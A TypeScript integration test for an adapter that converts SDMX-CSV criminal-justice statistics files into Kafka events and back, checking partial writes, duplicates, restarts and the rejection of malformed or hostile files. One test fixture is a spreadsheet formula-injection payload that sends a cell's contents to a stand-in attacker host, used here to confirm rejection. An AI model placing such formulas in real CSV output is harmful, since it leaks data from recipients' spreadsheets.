/**
 * The centres-of-excellence adapter with a real broker, both ways: SDMX-CSV files dropped in a
 * watched folder (and uploaded over HTTP) become StatisticsReport events on
 * comity.inbound.central-america-coe; hostile files are moved to rejected/ with their reason and
 * kept in the DLQ while the adapter goes on; a StatisticsReport on
 * comity.outbound.central-america-coe becomes an SDMX-CSV file in the outbox, with its
 * RequestDelivered receipt.
 *
 * The network id is the real one (`central-america-coe`), so its topics may hold records of other
 * runs: every check filters by subjects and ids this run produced, and collectors use unique
 * groups. Folders and the runtime's state are fresh temporary directories.
 */
import { createHash, randomBytes } from 'node:crypto';
import { existsSync, mkdtempSync, readFileSync, readdirSync, renameSync, writeFileSync, appendFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DlqHeader, readDeadLetterReason } from '../../core/dlq.js';
import { eventFromRecord } from '../../core/events/codec.js';
import { createEvent, decodeBody } from '../../core/events/create.js';
import { Classification } from '../../core/gen/comity/v1/event.js';
import { RequestSubmitted, type RequestDelivered } from '../../core/gen/comity/v1/lifecycle.js';
import { RequestType } from '../../core/gen/comity/v1/request.js';
import {
  CriminalJusticeStage,
  FlowDirection,
  StatisticMeasure,
  StatisticOutcome,
  StatisticsReport,
  StatisticsSource,
} from '../../core/gen/comity/v1/stats.js';
import { topics, type IncomingRecord, type KafkaClient, type RecordProducer } from '../../core/kafka/index.js';
import { createLogger } from '../../core/log.js';
import { coeStatsAdapter } from '../../adapters/coe-stats/index.js';
import type { CoeStatsTransport } from '../../adapters/coe-stats/transport.js';
import { adapterConfigSchema, startAdapter, type RunningAdapter } from '../../adapters/sdk/runtime.js';
import { collect, type Collector, eventually, testKafka, testKafkaConfig } from '../support/kafka.js';
import { testKeys } from '../support/keys.js';

const NETWORK = 'central-america-coe';
const logger = createLogger({ name: 'test.coe-stats', level: process.env.COMITY_LOG_LEVEL ?? 'error' });
const keys = testKeys([NETWORK, 'iberred']);
const REPORT_TYPE = 'comity.v1.StatisticsReport';

function fixtureText(name: string): string {
  return readFileSync(new URL(`../../adapters/coe-stats/fixtures/${name}`, import.meta.url), 'utf8');
}

const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

describe('centres-of-excellence adapter (SDMX-CSV files) with a real broker', () => {
  const run = randomBytes(4).toString('hex');
  const root = mkdtempSync(join(tmpdir(), 'comity-coe-stats-'));
  const inboxDir = join(root, 'entrada');
  const processedDir = join(inboxDir, 'processed');
  const rejectedDir = join(inboxDir, 'rejected');
  const outboxDir = join(root, 'salida');
  let kafka: KafkaClient;
  let producer: RecordProducer;
  let adapter: RunningAdapter;
  let inbound: Collector;
  let dlq: Collector;

  const config = () =>
    adapterConfigSchema(coeStatsAdapter).parse({
      network: NETWORK,
      trust: keys.adapterTrust(NETWORK),
      kafka: testKafkaConfig(`adapter-${NETWORK}-${run}`),
      runtime: {
        stateDir: join(root, 'state'),
        retry: { initialMs: 50, maxMs: 200, giveUpAfterMs: 60_000 },
        drainTimeoutMs: 5_000,
      },
      adapter: {
        inbox: { dir: inboxDir, pollIntervalMs: 100, settleMs: 400 },
        http: { listen: { port: 0 } },
        outbox: { dir: outboxDir },
      },
    });

  /** Guatemala's quarterly fixture under a report id of this run. */
  function guatemala(tag: string): { text: string; subject: string } {
    const reportId = `GT-MP-UAI-2025-Q3-${run}-${tag}`;
    return { text: fixtureText('gt-mp-2025-q3-asistencia.csv').replaceAll('GT-MP-UAI-2025-Q3', reportId), subject: `${NETWORK}:${reportId}` };
  }

  /** As the README asks writers to: `.part`, then rename. */
  function drop(name: string, content: string | Buffer): void {
    writeFileSync(join(inboxDir, `${name}.part`), content);
    renameSync(join(inboxDir, `${name}.part`), join(inboxDir, name));
  }

  const reportsFor = (subject: string) =>
    inbound.records.filter((record) => record.key?.toString() === subject && record.headers.ce_type?.toString() === REPORT_TYPE);

  async function post(body: string | Buffer, contentType = 'text/csv'): Promise<{ status: number; json: Record<string, unknown> }> {
    const address = (adapter.transport as CoeStatsTransport).address();
    const response = await fetch(`http://127.0.0.1:${address?.port}/messages`, { method: 'POST', headers: { 'content-type': contentType }, body });
    return { status: response.status, json: (await response.json()) as Record<string, unknown> };
  }

  beforeAll(async () => {
    kafka = testKafka();
    producer = await kafka.producer();
    await keys.publishToDirectory(kafka);
    adapter = await startAdapter(coeStatsAdapter, config(), { logger });
    inbound = await collect(kafka, topics.inbound(NETWORK));
    dlq = await collect(kafka, topics.dlq(NETWORK));
  });

  afterAll(async () => {
    await inbound?.stop();
    await dlq?.stop();
    await adapter?.stop();
    await producer?.disconnect();
  });

  it('a file written as .part and renamed becomes one StatisticsReport event; the .part is never read; the file moves to processed/', async () => {
    const { text, subject } = guatemala('drop');
    writeFileSync(join(inboxDir, 'gt-2025-q3.csv.part'), text.slice(0, 300));
    await sleep(1_500);
    expect(reportsFor(subject)).toHaveLength(0);
    expect(readdirSync(rejectedDir)).not.toContain('gt-2025-q3.csv.part');

    writeFileSync(join(inboxDir, 'gt-2025-q3.csv.part'), text);
    renameSync(join(inboxDir, 'gt-2025-q3.csv.part'), join(inboxDir, 'gt-2025-q3.csv'));
    await eventually(() => reportsFor(subject).length === 1, 'the report on comity.inbound.central-america-coe');
    await eventually(() => existsSync(join(processedDir, 'gt-2025-q3.csv')), 'the file in processed/');

    const record = reportsFor(subject)[0] as IncomingRecord;
    expect(record.headers.ce_comityorigin?.toString()).toBe(NETWORK);
    expect(record.headers.ce_comityclass?.toString()).toBe('public');
    const event = eventFromRecord(record);
    expect(event).toMatchObject({ type: REPORT_TYPE, originNetwork: NETWORK, subject, classification: Classification.CLASSIFICATION_PUBLIC });
    expect(event.provenance).toMatchObject({ nativeFormat: 'sdmx-csv', mappingVersion: '1.0.0', nativeId: subject.slice(NETWORK.length + 1) });
    expect(Buffer.from(event.provenance?.nativeSha256 ?? []).toString('hex')).toBe(createHash('sha256').update(text).digest('hex'));
    const report = decodeBody(event) as StatisticsReport;
    expect(report).toMatchObject({ reporter: NETWORK, source: StatisticsSource.STATISTICS_SOURCE_CENTRE_SUBMITTED, period: '2025-Q3', revision: 1 });
    expect(report.observations).toHaveLength(7);
    expect(report.observations[0]).toMatchObject({ reportingCountry: 'GT', counterpartCountry: 'US', iccsCode: '0601', stage: CriminalJusticeStage.CRIMINAL_JUSTICE_STAGE_PROSECUTION, value: 38 });
    expect(event.extensions[`${NETWORK}.attr.OBS_STATUS`]).toBe(JSON.stringify(['A', 'A', 'A', 'P', 'A', 'A', 'A']));
  });

  it('a .csv still being appended to is not read until it has settled, then it is read whole', async () => {
    const { text, subject } = guatemala('growing');
    const lines = text.trimEnd().split('\n');
    const path = join(inboxDir, 'gt-growing.csv');
    writeFileSync(path, `${lines.slice(0, 2).join('\n')}\n`);
    for (const line of lines.slice(2)) {
      await sleep(150); // shorter than settleMs: the file never looks finished
      appendFileSync(path, `${line}\n`);
      expect(reportsFor(subject), 'read while still being written').toHaveLength(0);
      expect(readdirSync(rejectedDir).filter((name) => name.startsWith('gt-growing'))).toEqual([]);
    }
    await eventually(() => reportsFor(subject).length === 1, 'the report of the settled file');
    expect((decodeBody(eventFromRecord(reportsFor(subject)[0] as IncomingRecord)) as StatisticsReport).observations).toHaveLength(7);
  });

  it('the same file dropped twice, under two names, is published once', async () => {
    const { text, subject } = guatemala('twice');
    drop('gt-twice-a.csv', text);
    await eventually(() => existsSync(join(processedDir, 'gt-twice-a.csv')), 'the first copy processed');
    const duplicatesBefore = adapter.counts().duplicate;
    drop('gt-twice-b.csv', text);
    await eventually(() => existsSync(join(processedDir, 'gt-twice-b.csv')), 'the second copy processed');
    expect(adapter.counts().duplicate).toBe(duplicatesBefore + 1);
    await sleep(1_000);
    expect(reportsFor(subject)).toHaveLength(1);
  });

  it('hostile files go to rejected/ with their reason, and to the DLQ with reason headers; the adapter keeps running', async () => {
    const header = 'DATAFLOW,REF_AREA,COUNTERPART_AREA,FLOW,REQUEST_TYPE,ICCS,CJ_STAGE,MEASURE,TIME_PERIOD,OBS_VALUE,REPORT_ID';
    const ok = `COMITY:CJ_COOPERATION(1.0),GT,US,OUTGOING,MUTUAL_LEGAL_ASSISTANCE,0601,PROSECUTION,COUNT,2025-Q3,12,H-${run}`;
    const huge = Buffer.alloc(6 * 1024 * 1024, `${ok.replace('12', '13')}\n`);
    huge.write(`${header}\n`, 0);
    const cases: { name: string; body: Buffer; code: string; at?: string }[] = [
      { name: 'injection.csv', body: Buffer.from(`${header},COMMENT\n${ok},"=HYPERLINK(""http://attacker.example/""&A1)"\n`), code: 'CSV_INJECTION', at: 'line 2, column COMMENT' },
      { name: 'semicolons.csv', body: Buffer.from(`${header.replaceAll(',', ';')}\n${ok.replaceAll(',', ';')}\n`), code: 'WRONG_DELIMITER' },
      { name: 'duplicate.csv', body: Buffer.from(`${header}\n${ok}\n${ok.replace(',12,', ',14,')}\n`), code: 'DUPLICATE_OBSERVATION', at: 'line 3' },
      { name: 'unknown-iccs.csv', body: Buffer.from(`${header}\n${ok}\n${ok.replace('0601', '0199').replace('US', 'MX')}\n`), code: 'UNKNOWN_ICCS_CODE', at: 'line 3, column ICCS' },
      { name: 'bad-country.csv', body: Buffer.from(`${header}\n${ok.replace(',US,', ',UK,')}\n`), code: 'UNKNOWN_COUNTRY', at: 'line 2, column COUNTERPART_AREA' },
      { name: 'negative.csv', body: Buffer.from(`${header}\n${ok.replace(',12,', ',-12,')}\n`), code: 'NEGATIVE_VALUE', at: 'line 2, column OBS_VALUE' },
      { name: 'text-value.csv', body: Buffer.from(`${header}\n${ok.replace(',12,', ',doce,')}\n`), code: 'NOT_A_NUMBER' },
      { name: 'missing-column.csv', body: Buffer.from(`${header.replace(',ICCS', '')}\n${ok.replace(',0601', '')}\n`), code: 'MISSING_COLUMN' },
      { name: 'latin1.csv', body: Buffer.concat([Buffer.from(`${header},COMMENT\n${ok},`), Buffer.from('Fiscalía', 'latin1'), Buffer.from('\n')]), code: 'NOT_UTF8' },
      { name: 'empty.csv', body: Buffer.alloc(0), code: 'EMPTY_FILE' },
      { name: 'quotes.csv', body: Buffer.from(`${header},COMMENT\n${ok},"sin cerrar\n${ok.replace('US', 'MX')},x\n`), code: 'MALFORMED_CSV' },
      { name: 'huge.csv', body: huge, code: 'TOO_LARGE' },
    ];
    for (const hostile of cases) drop(hostile.name, hostile.body);

    const rejected = (name: string) => existsSync(join(rejectedDir, name)) && existsSync(join(rejectedDir, `${name}.reason.txt`));
    await eventually(() => cases.every((hostile) => rejected(hostile.name)), 'every hostile file in rejected/', 60_000);
    for (const hostile of cases) {
      const reason = readFileSync(join(rejectedDir, `${hostile.name}.reason.txt`), 'utf8');
      expect(reason, hostile.name).toContain(`code: ${hostile.code}`);
      if (hostile.at) expect(reason, hostile.name).toContain(`(at ${hostile.at})`);
      expect(existsSync(join(inboxDir, hostile.name)), hostile.name).toBe(false);
    }

    // Each is in the DLQ, keyed by the SHA-256 of what the codec saw (the first 64 KiB of the huge one).
    const keyOf = (body: Buffer) => `sha256:${createHash('sha256').update(body).digest('hex')}`;
    const expected = cases.map((hostile) => ({ ...hostile, key: keyOf(hostile.code === 'TOO_LARGE' ? hostile.body.subarray(0, 64 * 1024) : hostile.body) }));
    const letterOf = (key: string) => dlq.records.find((record) => record.key?.toString() === key);
    await eventually(() => expected.every((hostile) => letterOf(hostile.key) !== undefined), 'the dead letters');
    for (const hostile of expected) {
      const letter = letterOf(hostile.key) as IncomingRecord;
      expect(readDeadLetterReason(letter.headers), hostile.name).toMatchObject({ code: hostile.code, stage: 'inbound-decode', retriable: false, failedBy: `adapter.${NETWORK}` });
      expect(letter.headers[DlqHeader.reason]?.toString(), hostile.name).toMatch(/\(at .+\)$/);
    }
    const hugeLetter = letterOf(expected.at(-1)?.key ?? '') as IncomingRecord;
    expect(hugeLetter.value?.length).toBe(64 * 1024);
    expect(JSON.parse(hugeLetter.headers[DlqHeader.nativeAttributes]?.toString() ?? '{}')).toMatchObject({
      [`${NETWORK}.receivedBytes`]: String(huge.length),
      [`${NETWORK}.receivedSha256`]: createHash('sha256').update(huge).digest('hex'),
      [`${NETWORK}.fileName`]: 'huge.csv',
    });

    // Still serving.
    const { text, subject } = guatemala('after-hostile');
    drop('gt-after.csv', text);
    await eventually(() => reportsFor(subject).length === 1, 'a good file after the hostile ones');
    expect((await fetch(`http://127.0.0.1:${adapter.statusPort}/readyz`)).status).toBe(200);
  });

  it('HTTP upload: 202 with the ids for a good file, 422 with the code and place for a bad one, and a duplicate is answered from the ledger', async () => {
    const { text, subject } = guatemala('http');
    const accepted = await post(text);
    expect(accepted.status).toBe(202);
    expect(accepted.json).toMatchObject({ requestIds: [subject], duplicate: false });
    const [eventId] = accepted.json.eventIds as string[];
    await eventually(() => reportsFor(subject).some((record) => record.headers.ce_id?.toString() === eventId), 'the uploaded report');

    const again = await post(text, 'application/vnd.sdmx.data+csv; version=1.0.0; charset=utf-8');
    expect(again).toMatchObject({ status: 202, json: { eventIds: [eventId], duplicate: true } });

    const refused = await post(text.replace(',0601,', ',0199,'));
    expect(refused.status).toBe(422);
    expect(refused.json).toMatchObject({ code: 'UNKNOWN_ICCS_CODE' });
    expect(String(refused.json.reason)).toContain('(at line 2, column ICCS)');
    // Other bytes: the same bytes would be answered from the ledger, whatever their content type.
    expect(await post(`${text}\n`, 'application/json')).toMatchObject({ status: 422, json: { code: 'WRONG_CONTENT_TYPE' } });
  });

  it('a StatisticsReport on comity.outbound.central-america-coe becomes an SDMX-CSV file in the outbox, with a RequestDelivered receipt', async () => {
    const reportId = `hub/2025-Q3-${run}`;
    const report = StatisticsReport.fromPartial({
      reportId,
      revision: 1,
      reporter: 'hub',
      source: StatisticsSource.STATISTICS_SOURCE_HUB_COMPUTED,
      period: '2025-Q3',
      suppressionThreshold: 5,
      observations: [
        {
          reportingCountry: 'GT',
          counterpartCountry: 'ES',
          direction: FlowDirection.FLOW_DIRECTION_OUTGOING,
          originNetwork: 'iberred',
          destinationNetwork: 'ejn',
          requestType: RequestType.REQUEST_TYPE_MUTUAL_LEGAL_ASSISTANCE,
          iccsCode: '0704',
          stage: CriminalJusticeStage.CRIMINAL_JUSTICE_STAGE_PROSECUTION,
          outcome: StatisticOutcome.STATISTIC_OUTCOME_EXECUTED,
          measure: StatisticMeasure.STATISTIC_MEASURE_COUNT,
          value: 17,
        },
        { reportingCountry: 'HN', counterpartCountry: 'US', measure: StatisticMeasure.STATISTIC_MEASURE_COUNT, suppressed: true },
      ],
    });
    const event = createEvent(report, { subject: reportId, source: 'comity://hub/stats', originNetwork: 'hub', classification: Classification.CLASSIFICATION_PUBLIC });
    await producer.send(topics.outbound(NETWORK), [keys.record(event)]);

    const fileName = `hub_2025-Q3-${run}.r1.csv`;
    await eventually(() => existsSync(join(outboxDir, fileName)), 'the file in the outbox');
    expect(readdirSync(outboxDir).filter((name) => name.endsWith('.part'))).toEqual([]);
    const rows = parse<Record<string, string>>(readFileSync(join(outboxDir, fileName), 'utf8'), { columns: true });
    expect(rows).toEqual([
      expect.objectContaining({ DATAFLOW: 'COMITY:CJ_COOPERATION(1.0)', REF_AREA: 'GT', COUNTERPART_AREA: 'ES', ICCS: '0704', OUTCOME: 'EXECUTED', OBS_VALUE: '17', CONF_STATUS: '', REPORT_ID: reportId, REPORTER: 'hub', SOURCE: 'HUB_COMPUTED' }),
      expect.objectContaining({ REF_AREA: 'HN', COUNTERPART_AREA: 'US', ICCS: '_T', CJ_STAGE: '_T', OBS_VALUE: '', CONF_STATUS: 'C', TIME_PERIOD: '2025-Q3' }),
    ]);

    const isReceipt = (record: IncomingRecord) =>
      record.headers.ce_comitycausation?.toString() === event.id && record.headers.ce_type?.toString() === 'comity.v1.RequestDelivered';
    await eventually(() => inbound.records.some(isReceipt), 'the RequestDelivered receipt');
    const receipt = eventFromRecord(inbound.records.find(isReceipt) as IncomingRecord);
    expect(receipt.subject).toBe(reportId);
    expect(decodeBody(receipt) as RequestDelivered).toMatchObject({ regardingEventId: event.id, network: NETWORK, nativeMessageId: fileName });
  });

  it('an event with no SDMX-CSV form (a request) is acknowledged without a file and without a receipt', async () => {
    const skippedBefore = adapter.counts().skipped;
    const request = createEvent(
      RequestSubmitted.fromPartial({ request: { requestId: `iberred:CO-${run}`, requestType: RequestType.REQUEST_TYPE_MUTUAL_LEGAL_ASSISTANCE } }),
      { subject: `iberred:CO-${run}`, source: 'comity://networks/iberred/adapter', originNetwork: 'iberred', requestType: RequestType.REQUEST_TYPE_MUTUAL_LEGAL_ASSISTANCE },
    );
    const filesBefore = readdirSync(outboxDir).length;
    await producer.send(topics.outbound(NETWORK), [keys.record(request)]);
    await eventually(() => adapter.counts().skipped === skippedBefore + 1, 'the request acknowledged');
    await sleep(500);
    expect(readdirSync(outboxDir)).toHaveLength(filesBefore);
    expect(inbound.records.some((record) => record.headers.ce_comitycausation?.toString() === request.id)).toBe(false);
  });

  it('files dropped while the adapter was stopped are processed when it starts again', async () => {
    await adapter.stop();
    const { text, subject } = guatemala('restart');
    drop('gt-restart.csv', text);
    await sleep(500);
    expect(existsSync(join(inboxDir, 'gt-restart.csv'))).toBe(true);
    adapter = await startAdapter(coeStatsAdapter, config(), { logger });
    await eventually(() => reportsFor(subject).length === 1, 'the report of the file left in the inbox');
    await eventually(() => existsSync(join(processedDir, 'gt-restart.csv')), 'the file in processed/');
  });
});
